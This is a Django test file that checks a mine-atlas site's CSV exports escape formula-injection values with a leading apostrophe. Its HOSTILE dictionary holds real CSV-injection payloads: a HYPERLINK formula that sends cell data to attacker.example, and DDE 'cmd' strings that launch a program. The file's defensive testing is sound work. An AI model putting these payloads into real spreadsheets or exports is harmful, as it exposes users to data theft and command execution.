"""Every CSV the site writes opens in a spreadsheet without running a cell as a formula.

A hostile value (as an import or an editor might bring in) starts with `=`, `+`, `-`, `@`,
a tab or a carriage return; each export must write it behind an apostrophe, and must leave
plain numbers (a negative longitude) as numbers.
"""

import csv
import io
import zipfile

from django.contrib.gis.geos import Point
from django.core.cache import cache
from django.test import TestCase

from contamination.spreadsheets import escape_cell
from tests import factories

HOSTILE = {
    "equals": '=HYPERLINK("https://attacker.example/?d="&A1,"Report")',
    "plus": "+cmd|' /c calc'!A0",
    "minus": "-2+3+cmd|' /c calc'!A0",
    "at": "@SUM(1+1)*cmd|' /c calc'!A0",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
}


def cells(text):
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


class EscapeCellTests(TestCase):
    def test_each_formula_start_gets_an_apostrophe(self):
        for name, value in HOSTILE.items():
            with self.subTest(start=name):
                self.assertEqual(escape_cell(value), "'" + value)

    def test_numbers_and_ordinary_text_are_kept(self):
        for value in ["-45.5", "+3", "1e-5", "-0.5", "Ağdam", "", "x=1", 7, None]:
            with self.subTest(value=value):
                self.assertEqual(escape_cell(value), value)


class ExportTests(TestCase):
    """One hostile value per export, written escaped."""

    @classmethod
    def setUpTestData(cls):
        cls.country = factories.make_country()
        cls.unit = factories.make_unit(cls.country, code="AZ-EVL", name_en=HOSTILE["equals"])
        for index, value in enumerate(HOSTILE.values()):
            factories.make_hazard_area(reference=f"HA-HOSTILE-{index}", name=value)
        factories.make_incident(
            reference="IN-WEST",
            location=Point(46.5, 40.5, srid=4326),
            summary=HOSTILE["at"],
            casualties=[{"outcome": "killed", "group": "civilian"}],
        )
        factories.make_statement(text=HOSTILE["plus"])

    def setUp(self):
        cache.clear()

    def assertEscaped(self, text, values=None):
        found = cells(text)
        for value in values or HOSTILE.values():
            self.assertIn("'" + value, found)
            self.assertNotIn(value, found)

    def test_the_api_csv_written_by_postgresql(self):
        response = self.client.get("/api/v1/hazard-areas/?format=csv")
        self.assertEqual(response.status_code, 200)
        self.assertEscaped(response.content.decode())

    def test_the_bulk_download_csv(self):
        response = self.client.get("/api/v1/downloads/mine-atlas.csv.zip")
        self.assertEqual(response.status_code, 200)
        archive = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
        self.assertEscaped(archive.read("hazard_areas.csv").decode())
        self.assertEscaped(archive.read("areas.csv").decode(), [HOSTILE["equals"]])

    def test_the_statements_csv(self):
        response = self.client.get("/api/v1/statements/?format=csv")
        self.assertEqual(response.status_code, 200)
        self.assertEscaped(response.content.decode(), [HOSTILE["plus"]])

    def test_the_chart_csv(self):
        response = self.client.get("/en/statistics/casualties-by-district.csv")
        self.assertEqual(response.status_code, 200)
        self.assertEscaped(response.content.decode(), [HOSTILE["equals"]])

    def test_negative_coordinates_stay_numbers(self):
        factories.make_incident(
            reference="IN-WEST-2",
            location=Point(-0.5, -10.25, srid=4326),
            location_precision="exact",
        )
        response = self.client.get("/api/v1/incidents/?format=csv")
        self.assertEqual(response.status_code, 200)
        rows = list(csv.DictReader(io.StringIO(response.content.decode())))
        west = next(row for row in rows if row["reference"] == "IN-WEST-2")
        self.assertEqual((west["lon"], west["lat"]), ("-0.5", "-10.25"))
